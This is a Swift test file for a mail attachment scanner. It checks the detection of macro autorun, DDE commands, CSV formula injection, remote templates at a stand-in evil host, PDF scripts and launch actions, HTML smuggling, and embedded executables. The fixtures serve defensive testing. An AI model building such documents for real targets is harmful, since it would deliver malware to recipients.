import Foundation
import Mail
import Testing
import Values

@testable import Attachments

/// What documents do besides being read.
@Suite struct DocumentTests {
    private static func traits(_ name: String, _ content: [UInt8]) -> [String: String] {
        let files = Workbench.files(name, content)
        return Dictionary(
            files[0].traits.map { ($0.kind.rawValue, $0.detail) }, uniquingKeysWith: { first, _ in first })
    }

    private static func project(_ source: String, in storage: [String]) -> [(path: [String], content: [UInt8])] {
        [
            (storage + ["VBA", "dir"], Workbench.module("x")), (storage + ["VBA", "_VBA_PROJECT"], [0xCC, 0x61]),
            (storage + ["VBA", "Module1"], [0, 0, 0] + Workbench.module("Attribute VB_Name = \"M\"\r\n\(source)")),
        ]
    }

    private static let autorun = "Sub AutoOpen()\r\nCreateObject(\"WScript.Shell\").Run \"x\"\r\nEnd Sub"

    @Test func macrosInCompoundFiles() {
        let streams = [(path: ["WordDocument"], content: [UInt8](repeating: 0, count: 100))]
        let file = Workbench.compoundFile(streams + Self.project(Self.autorun, in: ["Macros"]))
        #expect(Workbench.files("a.doc", file)[0].type == .doc)
        #expect(
            Self.traits("a.doc", file) == [
                "macro": "VBA; uses shell, createobject, wscript",
                "autorun-macro": "autoopen; uses shell, createobject, wscript",
            ])
        // A project without code is what every workbook may have.
        let empty = Workbench.compoundFile(streams + Self.project("Option Explicit\r\n", in: ["Macros"]))
        #expect(Self.traits("a.doc", empty).isEmpty)
    }

    @Test func macrosInOfficeXML() {
        let project = Workbench.compoundFile(Self.project(Self.autorun, in: []))
        let document = Workbench.zip([
            ("[Content_Types].xml", Array("<x/>".utf8)), ("word/document.xml", Array("<w:p/>".utf8)),
            ("word/vbaProject.bin", project),
        ])
        let files = Workbench.files("a.docm", document)
        #expect(files.map(\.type) == [.docx])
        #expect(files[0].kinds == ["macro", "autorun-macro"])
        let sheets = Workbench.zip([
            ("[Content_Types].xml", []), ("xl/workbook.xml", []), ("xl/macrosheets/sheet1.xml", [0x61]),
        ])
        #expect(Self.traits("a.xlsm", sheets)["macro"] == "sheets of Excel 4.0 macros: xl/macrosheets/sheet1.xml")
    }

    /// What a part is, its name does not say: relationships do.
    @Test func partsOfOfficeXMLByAnyName() {
        let project = Workbench.compoundFile(Self.project(Self.autorun, in: []))
        func relation(_ type: String, _ target: String) -> [UInt8] {
            Array("<Relationships><Relationship Type=\"http://x/\(type)\" Target=\"\(target)\"/></Relationships>".utf8)
        }
        let field = Array("<w:p><w:fldSimple w:instr=\"DD&#69;AUTO c:\\cmd.exe /k calc\"/></w:p>".utf8)
        for (path, relations, target, content, expected) in [
            (
                "word/_rels/document.xml.rels", relation("vbaProject", "media/a.png"), "word/media/a.png", project,
                "autorun-macro"
            ),
            (
                "word/_rels/document.xml.rels", relation("vbaProject", "../b/../c.dat"), "C.DAT", project,
                "autorun-macro"
            ),
            (
                "word/_rels/document.xml.rels", relation("vba&#80;roject", "/x/a.bin"), "x/a.bin", project,
                "autorun-macro"
            ),
            ("_rels/.rels", relation("officeDocument", "letter/a.xml"), "letter/a.xml", field, "dde"),
            ("xl/_rels/workbook.xml.rels", relation("xlMacrosheet", "s/1.xml"), "xl/s/1.xml", [0x61], "macro"),
        ] {
            for isFirst in [true, false] {
                let part = (name: target, content: content)
                let document = Workbench.zip(
                    (isFirst ? [part] : []) + [
                        ("[Content_Types].xml", []), ("word/document.xml", []), (path, relations),
                    ]
                        + (isFirst ? [] : [part]))
                #expect(Self.traits("a.docx", document)[expected] != nil, "\(target), first: \(isFirst)")
            }
        }
    }

    /// A document to one program, an archive to another.
    @Test(arguments: [
        ("a.zip", [FileType.docx, .text, .text, .portableExecutable]),
        ("", [.docx, .text, .text, .portableExecutable]),
        ("a.docx", [.docx, .portableExecutable]),
    ])
    func programsInDocuments(name: String, expected: [FileType]) {
        let document = Workbench.zip([
            ("[Content_Types].xml", [0x61]), ("word/document.xml", [0x61]), ("word/media/a.exe", Workbench.program),
        ])
        #expect(Workbench.files(name, document).map { $0.type == .xml ? .text : $0.type } == expected)
        let book = Workbench.zip([("mimetype", []), ("META-INF/container.xml", []), ("b.scr", Workbench.program)])
        #expect(Workbench.files("a.epub", book).map(\.type) == [.epub, .portableExecutable])
        let package = Workbench.zip([("classes.dex", []), ("b.exe", Workbench.program)])
        #expect(Workbench.files("a.apk", package).map(\.type) == [.apk])
        #expect(Workbench.files("a.zip", package).map(\.type) == [.apk, .empty, .portableExecutable])
    }

    @Test func compressedSourceIsReadBack() {
        // [MS-OVBA] §3.2: "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa".
        let packed: [UInt8] = [
            0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70, 0x61, 0x67,
            0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F, 0x70, 0x06, 0x71, 0x02,
            0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C,
        ]
        #expect(
            VBASource.decompress(Bytes(packed), limit: 1000)
                == Array("#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa".utf8))
    }

    @Test func whatOfficeXMLFetches() {
        func document(_ type: String, _ target: String, _ mode: String = "External") -> [UInt8] {
            let relation =
                "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/\(type)\" Target=\"\(target)\" TargetMode=\"\(mode)\"/></Relationships>"
            return Workbench.zip([
                ("[Content_Types].xml", []), ("word/document.xml", []),
                ("word/_rels/settings.xml.rels", Array(relation.utf8)),
            ])
        }
        #expect(
            Self.traits("a.docx", document("attachedTemplate", "http://evil.example/t.dotm"))
                == ["remote-content": "attachedtemplate: http://evil.example/t.dotm"])
        #expect(Self.traits("a.docx", document("hyperlink", "http://shop.example/")).isEmpty)
        #expect(Self.traits("a.docx", document("attachedTemplate", "file:///C:/Normal.dotm")).isEmpty)
        #expect(Self.traits("a.docx", document("attachedTemplate", "http://a.example", "Internal")).isEmpty)
    }

    @Test func commandsInFields() {
        let cut =
            "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\cmd.exe \"/k\"</w:instrText></w:p>"
        let document = Workbench.zip([
            ("[Content_Types].xml", []), ("word/document.xml", Array(cut.utf8)),
        ])
        #expect(Self.traits("a.docx", document)["dde"]?.hasPrefix("ddeauto c:") ?? false)
        let harmless = Workbench.zip([
            ("[Content_Types].xml", []), ("word/document.xml", Array("<w:instrText> PAGE </w:instrText>".utf8)),
        ])
        #expect(Self.traits("a.docx", harmless).isEmpty)
        #expect(
            Self.traits("a.csv", Array("name,sum\n=cmd|'/c calc'!A0,1\n".utf8)) == ["dde": "=cmd|'/c calc'!A0,1\\u{A}"])
        #expect(Self.traits("a.csv", Array("name,sum\na|'b',1\n".utf8)).isEmpty)
    }

    @Test func encryptedDocuments() {
        let package = Workbench.compoundFile([(["EncryptedPackage"], [1, 2]), (["EncryptionInfo"], [4, 0])])
        #expect(Workbench.files("a.docx", package)[0].type == .encryptedOffice)
        #expect(Self.traits("a.docx", package)["encrypted-document"] == "EncryptedPackage")
        var word = [UInt8](repeating: 0, count: 64)
        word[11] = 1
        #expect(Self.traits("a.doc", Workbench.compoundFile([(["WordDocument"], word)]))["encrypted-document"] != nil)
        let filePass =
            Workbench.number(0x0809, 2) + Workbench.number(2, 2) + [0, 6] + Workbench.number(0x2F, 2) + [0, 0]
        #expect(Self.traits("a.xls", Workbench.compoundFile([(["Workbook"], filePass)]))["encrypted-document"] != nil)
        let open = Workbench.zip([
            ("mimetype", Array("application/vnd.oasis.opendocument.text".utf8)), ("content.xml", []),
            ("META-INF/manifest.xml", Array("<manifest:encryption-data/>".utf8)),
        ])
        #expect(Self.traits("a.odt", open)["encrypted-document"] != nil)
    }

    @Test func sheetsOfMacros() {
        let begin = Workbench.number(0x0809, 2) + Workbench.number(2, 2) + [0, 6]
        let sheet = Workbench.number(0x85, 2) + Workbench.number(11, 2) + [0, 0, 0, 0, 1, 1, 3, 0] + Array("abc".utf8)
        let file = Workbench.compoundFile([(["Workbook"], begin + sheet + [10, 0, 0, 0])])
        #expect(Self.traits("a.xls", file) == ["macro": "sheets of Excel 4.0 macros, hidden: abc"])
    }

    @Test func programsInDocuments() {
        let native =
            [0, 0] + Array("run.exe\0C:\\run.exe\0".utf8) + [0, 0, 3, 0, 8, 0, 0, 0] + Array("C:\\r.exe\0".utf8)
            + Workbench.number(Workbench.program.count, 4) + Workbench.program
        let file = Workbench.compoundFile([
            (["WordDocument"], [0]),
            (["ObjectPool", "_1", "\u{1}Ole10Native"], Workbench.number(native.count, 4) + native),
        ])
        let files = Workbench.files("a.doc", file)
        #expect(files.map(\.type) == [.doc, .portableExecutable])
        #expect(files[0].kinds == ["embedded-object"] && files[1].name?.text == "run.exe")
    }

    @Test(arguments: [
        ("<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", ["pdf-script"]),
        ("<</S/Java#53cript/J#53 5 0 R>>", ["pdf-script"]),
        ("<</S/Launch/F(cmd.exe)>>", ["pdf-launch", "pdf-embedded"]),
        ("<</URI(http://a.example/JS/Launch)>>", []), ("% /JS comment", []),
        ("<</Length 9>>stream\n/JS /Launch\nendstream", []), ("<</OpenAction[3 0 R/Fit]>>", []),
        ("<</Encrypt 9 0 R>>", ["encrypted-document"]), ("(unclosed /x <</JS(a)>>", ["pdf-script"]),
        // A table of objects may lead into what looks like something else.
        ("% 5 0 obj <</S/JavaScript/JS(a)>> endobj", ["pdf-script"]), ("% obj /JS", []), ("(an obj /JS)", []),
        ("(5 0 obj <</S/Launch>> endobj)", ["pdf-launch"]),
        ("<</Length 9>>stream\n5 0 obj <</JS 3 0 R>> endobj\nendstream", ["pdf-script"]),
        ("<</Type/ObjStm/Filter/AHx>>stream\n33203020 3C3C2F4A53283129 3E3E>\nendstream", ["pdf-script"]),
        ("<</Type/ObjStm/Filter/FlateDecode>>stream\nendstream", []),
        ("<</XFA 5 0 R>>endobj 5 0 obj<<>>stream\n<xdp><script>a</script></xdp>\nendstream", ["pdf-script"]),
        ("<</XFA 5 0 R>>endobj 5 0 obj<<>>stream\n<xdp><field/></xdp>\nendstream", []),
        ("<<>>endobj 5 0 obj<<>>stream\n<xdp><script>a</script></xdp>\nendstream", []),
    ])
    func portableDocuments(body: String, expected: [String]) {
        let files = Workbench.files("a.pdf", Array("%PDF-1.7\n1 0 obj \(body) endobj\n%%EOF".utf8))
        #expect(files[0].kinds == expected)
    }

    @Test func packedObjectsOfPortableDocuments() throws {
        try Workbench.inFolder { folder in
            let script = """
                import zlib
                inner = zlib.compress(b"3 0 <</S/JavaScript/JS(1)>>")
                program = zlib.compress(b"MZ" + bytes(58) + b"\\x40\\0\\0\\0PE\\0\\0" + bytes(100))
                open("a.pdf", "wb").write(
                    b"%PDF-1.7\\n2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\\n" + inner + b"\\nendstream endobj\\n"
                    b"4 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\\n" + program + b"\\nendstream endobj\\n"
                    b"5 0 obj<</Type/Filespec/UF(run.exe)>>endobj")
                """
            try Workbench.run(["python3", "-c", script], in: folder)
            let files = Workbench.files("a.pdf", try Workbench.contents("a.pdf", in: folder))
            #expect(files[0].kinds == ["pdf-script", "pdf-embedded"])
            #expect(files.last?.type == .portableExecutable && files.last?.name?.text == "run.exe")
        }
    }

    @Test func pagesThatMakeFiles() {
        let archive = Base64.text(Workbench.zip([("a.js", Array("var a;".utf8))]) + [UInt8](repeating: 0, count: 300))
        let page =
            "<html><script>var d='\(archive)';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>"
        let files = Workbench.files("a.html", Array(page.utf8))
        #expect(files[0].kinds == ["html-smuggling"])
        #expect(files.map(\.type) == [.html, .zip, .windowsScript])
        let link = "<html><a download=\"a.zip\" href=\"data:application/zip;base64,\(archive)\">x</a>"
        #expect(Workbench.files("a.html", Array(link.utf8))[0].kinds == ["html-smuggling"])
        let encoded = "<html><a download href='data:application/octet-stream,%4D%5A%90'>x</a>"
        #expect(Workbench.files("a.html", Array(encoded.utf8))[0].kinds == ["html-smuggling"])
        let prose = "<html><a download href='/a'>x</a> as data:application/zip, or so"
        #expect(Workbench.files("a.html", Array(prose.utf8))[0].kinds.isEmpty)
        let harmless =
            "<html><script>function f(){return 1}</script><img src=\"data:image/png;base64,\(archive)\"><a href=\"/a.zip\">x</a>"
        #expect(Workbench.files("a.html", Array(harmless.utf8)).map(\.kinds) == [[]])
    }

    @Test func drawingsThatRun() {
        let drawing = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>1</script></svg>"
        #expect(Self.traits("a.svg", Array(drawing.utf8)) == ["svg-script": "<script, onload="])
        #expect(Self.traits("a.svg", Array("<svg xmlns='x'><path d='M0'/></svg>".utf8)).isEmpty)
    }

    @Test func richText() {
        #expect(
            Self.traits(
                "a.doc", Array("{\\rtf1 {\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01}}}".utf8)
            )["embedded-object"] != nil)
        #expect(
            Self.traits("a.rtf", Array("{\\rtf1{\\*\\template http://evil.example/a.dotm}}".utf8))["remote-content"]
                != nil)
        // The words are text here.
        #expect(Self.traits("a.rtf", Array("{\\rtf1 \\\\objupdate \\\\objdata}".utf8)).isEmpty)
    }

    @Test func filesInRichText() {
        let package =
            [2, 0] + Array("run.exe\0C:\\run.exe\0".utf8) + [0, 0, 3, 0, 8, 0, 0, 0] + Array("C:\\r.exe\0".utf8)
            + Workbench.number(Workbench.program.count, 4) + Workbench.program
        let object =
            Workbench.number(0x0501, 4) + Workbench.number(2, 4) + Workbench.number(8, 4) + Array("Package\0".utf8)
            + Workbench.number(0, 8) + Workbench.number(package.count, 4) + package
        let digits = object.map { String($0 >> 4, radix: 16) + "\n" + String($0 & 15, radix: 16) }.joined()
        let files = Workbench.files("a.rtf", Array("{\\rtf1{\\object{\\*\\objdata \(digits)}}}".utf8))
        #expect(files.map(\.type) == [.rtf, .portableExecutable] && files[1].name?.text == "run.exe")
        #expect(files[0].kinds == ["embedded-object"])
    }

    @Test func transportNeutralFormat() {
        func attribute(_ id: Int, _ content: [UInt8]) -> [UInt8] {
            [2] + Workbench.number(id, 4) + Workbench.number(content.count, 4) + content + [0, 0]
        }
        let name = Array("long name.exe".utf8) + [0]
        let padding = [UInt8](repeating: 0, count: (4 - name.count % 4) % 4)
        var properties = Workbench.number(1, 4) + Workbench.number(0x001E, 2) + Workbench.number(0x3707, 2)
        properties += Workbench.number(1, 4) + Workbench.number(name.count, 4) + name + padding
        let stream =
            [0x78, 0x9F, 0x3E, 0x22, 1, 0] + attribute(0x9002, [0])
            + attribute(0x8010, Array("LONGNA~1.EXE".utf8) + [0])
            + attribute(0x800F, Workbench.program) + attribute(0x9005, properties) + attribute(0x9002, [0])
            + attribute(0x8010, Array("b.zip".utf8) + [0])
            + attribute(0x800F, Workbench.zip([("c.txt", [0x63])]))
        let files = Workbench.files("winmail.dat", stream)
        #expect(files.map { $0.name?.text } == ["winmail.dat", "long name.exe", "b.zip", "c.txt"])
        #expect(files.map(\.type) == [.tnef, .portableExecutable, .zip, .text])
        #expect(Workbench.files("winmail.dat", Array(stream.dropLast(20)))[0].kinds == ["unreadable"])
    }

    @Test func outlookMessages() {
        let file = Workbench.compoundFile([
            (["__properties_version1.0"], [0]),
            (
                ["__attach_version1.0_#00000000", "__substg1.0_3707001F"],
                "run.exe".utf16.flatMap { Workbench.number(Int($0), 2) }
            ),
            (["__attach_version1.0_#00000000", "__substg1.0_37010102"], Workbench.program),
        ])
        let files = Workbench.files("a.msg", file)
        #expect(files.map(\.type) == [.outlookMessage, .portableExecutable] && files[1].name?.text == "run.exe")
    }

    @Test func notebooks() {
        let section: [UInt8] = [
            0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3,
        ]
        let mark: [UInt8] = [
            0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC,
        ]
        let file =
            section + [0, 0, 0, 0] + mark + Workbench.number(Workbench.program.count, 8)
            + [UInt8](repeating: 0, count: 12) + Workbench.program
        let files = Workbench.files("a.one", file)
        #expect(files.map(\.type) == [.oneNote, .portableExecutable] && files[0].kinds == ["embedded-object"])
    }

    /// Compound files whose chains and trees lead back to themselves.
    @Test func circles() {
        var file = Workbench.compoundFile([(["WordDocument"], [UInt8](repeating: 0, count: 2_000)), (["1Table"], [1])])
        for offset in stride(from: 0, to: file.count - 4, by: 7) where offset > 512 {
            file[offset] = UInt8(truncatingIfNeeded: offset)
            _ = Workbench.files("a.doc", file)
        }
        let table = file.count - 512
        for index in 0..<4 { file.replaceSubrange(table + index * 4..<table + index * 4 + 4, with: [0, 0, 0, 0]) }
        #expect(Workbench.files("a.doc", file).count == 1)
    }
}
